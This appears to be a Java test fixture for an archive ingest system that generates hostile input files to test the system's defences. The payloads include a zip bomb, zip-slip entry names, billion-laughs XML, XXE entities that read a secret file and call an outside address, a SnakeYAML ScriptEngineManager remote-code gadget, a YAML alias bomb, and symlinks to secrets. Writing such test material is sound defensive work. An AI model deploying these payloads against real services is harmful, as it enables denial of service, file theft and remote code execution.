package org.larchiveum.ingest.proof;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Makes the files that somebody would send who wishes the archive ill. Each is made anew, none is kept in the repository. */
final class Hostile {
    private final Path folder;
    private final String web;
    private final Path secret;

    /** @param web an address that nobody may ask; {@code secret} a file that nobody may read */
    Hostile(Path folder, String web, Path secret) {
        this.folder = folder;
        this.web = web;
        this.secret = secret;
    }

    void make() throws IOException {
        archives();
        markup();
        pictures();
        notes();
        names();
    }

    private void archives() throws IOException {
        zip("bomb.zip", zip -> {
            zip.putNextEntry(new ZipEntry("zeros.txt"));
            var megabyte = new byte[1 << 20];
            for (int i = 0; i < 300; i++) {
                zip.write(megabyte);
            }
        });
        var nested = "the innermost".getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < 80; i++) {
            var inner = nested;
            var out = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("inner.zip"));
                zip.write(inner);
            }
            nested = out.toByteArray();
        }
        Files.write(folder.resolve("nested-80-deep.zip"), nested);
        zip("climbing-names.zip", zip -> {
            for (var name :
                    new String[] {"../../climbed.txt", "/etc/climbed.txt", "a/../../climbed.txt", "C:\\climbed"}) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write("climbed".getBytes(StandardCharsets.UTF_8));
            }
        });
        zip("sixty-thousand.zip", zip -> {
            for (int i = 0; i < 60_000; i++) {
                zip.putNextEntry(new ZipEntry("n" + i));
            }
        });
    }

    private void markup() throws IOException {
        var laughs = new StringBuilder("<!DOCTYPE l [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY l%d \"%s\">".formatted(i, ("&l" + (i - 1) + ";").repeat(10)));
        }
        laughs.append("]>");
        text("laughs.xml", "<?xml version=\"1.0\"?>" + laughs + "<l>&l11;</l>");
        text(
                "laughs.svg",
                "<?xml version=\"1.0\"?>" + laughs
                        + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><text>&l11;</text></svg>");
        var outside = "<!DOCTYPE x [<!ENTITY f SYSTEM \"" + secret.toUri() + "\"><!ENTITY w SYSTEM \"" + web
                + "entity\"><!ENTITY %% p SYSTEM \"%1$sparameter\"> %%p;]>".formatted(web);
        text("outside.xml", "<?xml version=\"1.0\"?>" + outside + "<x>&f;&w;</x>");
        text(
                "outside.svg",
                "<?xml version=\"1.0\"?>" + outside
                        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\">"
                        + "<text>&f;&w;</text><image xlink:href=\"" + web + "image\" width=\"9\" height=\"9\"/></svg>");
        text(
                "outside.html",
                "<html><body><img src=\"" + web + "img\"><iframe src=\"" + secret.toUri()
                        + "\"></iframe></body></html>");
        zip("outside.docx", zip -> {
            entry(
                    zip,
                    "[Content_Types].xml",
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                            + "<Override PartName=\"/word/document.xml\" ContentType="
                            + "\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
            entry(
                    zip,
                    "_rels/.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" "
                            + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
                            + "Target=\"word/document.xml\"/></Relationships>");
            entry(
                    zip,
                    "word/document.xml",
                    "<?xml version=\"1.0\"?>" + outside
                            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r>"
                            + "<w:t>&f;&w;</w:t></w:r></w:p></w:body></w:document>");
        });
    }

    private void pictures() throws IOException {
        var image = new BufferedImage(400, 300, BufferedImage.TYPE_INT_RGB);
        for (int i = 0; i < 400 * 300; i++) {
            image.setRGB(i % 400, i / 400, i * 2_654_435);
        }
        for (var format : new String[] {"jpg", "png"}) {
            var out = new ByteArrayOutputStream();
            ImageIO.write(image, format, out);
            Files.write(folder.resolve("cut." + format), Arrays.copyOf(out.toByteArray(), out.size() / 2));
        }
        var small = new ByteArrayOutputStream();
        ImageIO.write(image.getSubimage(0, 0, 20, 20), "png", small);
        Files.write(folder.resolve("picture-named.txt"), small.toByteArray());
        var program = Arrays.copyOf(new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4}, 4_096);
        program[60] = (byte) 128;
        System.arraycopy(new byte[] {'P', 'E', 0, 0, 0x4c, 1}, 0, program, 128, 6);
        Files.write(folder.resolve("program-named.jpg"), program);
        Files.write(folder.resolve("giant.png"), giant(60_000));
        Files.write(
                folder.resolve("cut.pdf"),
                "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pa"
                        .getBytes(StandardCharsets.ISO_8859_1));
    }

    /** A header that promises a square of so many pixels, and no pixels. */
    private static byte[] giant(int side) throws IOException {
        var body = new ByteArrayOutputStream();
        try (var data = new DataOutputStream(body)) {
            data.writeBytes("IHDR");
            data.writeInt(side);
            data.writeInt(side);
            data.write(new byte[] {8, 6, 0, 0, 0});
        }
        var crc = new CRC32();
        crc.update(body.toByteArray());
        var out = new ByteArrayOutputStream();
        try (var data = new DataOutputStream(out)) {
            data.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
            data.writeInt(13);
            data.write(body.toByteArray());
            data.writeInt((int) crc.getValue());
            data.writeInt(0);
            data.writeBytes("IDAT");
            data.writeInt(0x35af061e);
        }
        return out.toByteArray();
    }

    private void notes() throws IOException {
        var bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 40; i++) {
            bomb.append(
                    "a%d: &a%d [%s]\n".formatted(i, i, "*a%d, ".formatted(i - 1).repeat(9)));
        }
        noted("note-of-aliases.txt", bomb.toString());
        noted(
                "note-with-tags.txt",
                "title: !!javax.script.ScriptEngineManager [!!java.net.URL [\"" + web + "yaml\"]]\n");
        noted("note-too-deep.txt", "title: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n");
        noted("note-in-latin1.txt", new String(new byte[] {'t', ':', ' ', (byte) 0xe9}, StandardCharsets.ISO_8859_1));
        Files.write(folder.resolve("note-in-latin1.txt.yaml"), new byte[] {'t', ':', ' ', (byte) 0xe9, '\n'});
        noted("note-that-climbs.txt", "title: {ko: 기어오름, en: Climbing}\nfilename: ../../climbed.txt\n");
        noted(
                "note-of-other-files.txt",
                "title: {ko: 남의 것, en: Of others}\nfiles: [../" + secret.getFileName() + "]\n");
    }

    private void names() throws IOException {
        Files.write(folder.resolve("empty.txt"), new byte[0]);
        text("big-cell.csv", "a,b\n1,\"" + "가나다 ".repeat(100_000) + "\"\n");
        Files.createSymbolicLink(folder.resolve("link.txt"), secret);
        text("turned\u202egpj.txt", "a name that reads the other way round\n");
        text("two\nlines.txt", "a name of two lines\n");
        text("n".repeat(251) + ".txt", "a name as long as the file system takes\n");
        text("zz-normal.txt", "An ordinary invented letter.\n");
    }

    private void noted(String name, String note) throws IOException {
        text(name, "noted: " + name + "\n");
        text(name + ".yaml", note);
    }

    private void text(String name, String text) throws IOException {
        Files.writeString(folder.resolve(name), text);
    }

    private static void entry(ZipOutputStream zip, String name, String text) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
    }

    private interface Filling {
        void into(ZipOutputStream zip) throws IOException;
    }

    private void zip(String name, Filling filling) throws IOException {
        try (var zip = new ZipOutputStream(Files.newOutputStream(folder.resolve(name)))) {
            filling.into(zip);
        }
    }
}
